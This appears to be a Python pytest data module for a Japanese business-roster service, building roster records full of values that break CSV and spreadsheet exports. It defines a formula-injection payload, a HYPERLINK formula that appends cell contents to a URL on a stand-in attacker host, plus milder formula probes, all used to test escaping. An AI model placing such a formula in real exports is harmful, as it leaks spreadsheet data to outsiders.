"""Roster test data: the shipped rosters with values that spreadsheets and CSV readers get wrong."""

import copy
import json
from typing import Any

import pytest

from seed import DEMO_ROSTER

FORMULA = '=HYPERLINK("http://evil.example/?"&Q2&R2,"x")'
# Tags that hold every list separator, the escape character, blanks at their edges, formulas and quotes.
NASTY_TAGS = ["a;b", "c；d", "e,f", "g，h", "i、j", "back\\slash", " edge ", "\u3000全角空白\u3000", "=SUM(A1)",
              "'quoted", "-minus", "改行\nあり", "trailing\\"]


@pytest.fixture(autouse=True)
def english_locale(monkeypatch: pytest.MonkeyPatch) -> None:
    """Messages in English unless a test asks for Japanese, whatever the machine's locale."""
    for name in ("LC_ALL", "LC_MESSAGES", "LANG"):
        monkeypatch.delenv(name, raising=False)


def demo_roster() -> dict[str, Any]:
    """The demo roster the service ships."""
    return json.loads(DEMO_ROSTER.read_text(encoding="utf-8"))


def with_nasty_values(roster: dict[str, Any], long_text: int = 150_000) -> dict[str, Any]:
    """A copy of the roster whose first members hold formulas, leading apostrophes, separators inside tags,
    line breaks (CR LF too), tabs, control characters, Japanese text, empty optional values, keys the format
    does not define, and a description of long_text characters (by default longer than the csv module reads
    by default; a workbook cell holds at most 32,767)."""
    nasty = copy.deepcopy(roster)
    orgs = nasty["organizations"]
    with_needs = [o for o in orgs if o["needs"]]
    with_seeds = [o for o in orgs if o["seeds"]]
    first, second, third, fourth = orgs[0], orgs[1], orgs[2], orgs[3]
    first["name_en"] = FORMULA
    first["city"] = "'quoted city"
    first["contact"] = {"name": "@山田 太郎", "email": "yamada@example.jp", "phone": "+81 92 000 0000"}
    second["name_en"] = "'=not a formula either"
    second["city"] = "''two quotes"
    second["certifications"] = ["ISO 9001, 14001", "経営革新計画；福岡県", "-", "'"]
    third["description"] = "+81 から始まる説明\r\n二行目\n\tタブで字下げ\x07ベル _x000D_ はそのまま"
    third["name_en"] = ""
    third["city"] = None
    fourth["description"] = ("-5 では足りない。" + "長い説明。" * (long_text // 5))[:long_text]
    fourth["name_en"] = "\tstarts with a tab"
    fourth["city"] = "\r starts with CR"
    need = with_needs[0]["needs"][0]
    need["tags"] = NASTY_TAGS
    need["title"] = "=1+1 を計算したい"
    with_needs[1]["needs"][0]["tags"] = []
    seed = with_seeds[0]["seeds"][0]
    seed["description"] = "@メンション\r\n\r\n空行のあと"
    seed["tags"] = ["'=x", "''", "@home"]
    seed["service_area"] = ["福岡県", "佐賀県"]
    seed["x_note"] = {"kept": ["=x", 1, None]}
    with_seeds[1]["seeds"][0]["industries_served"] = []
    return nasty
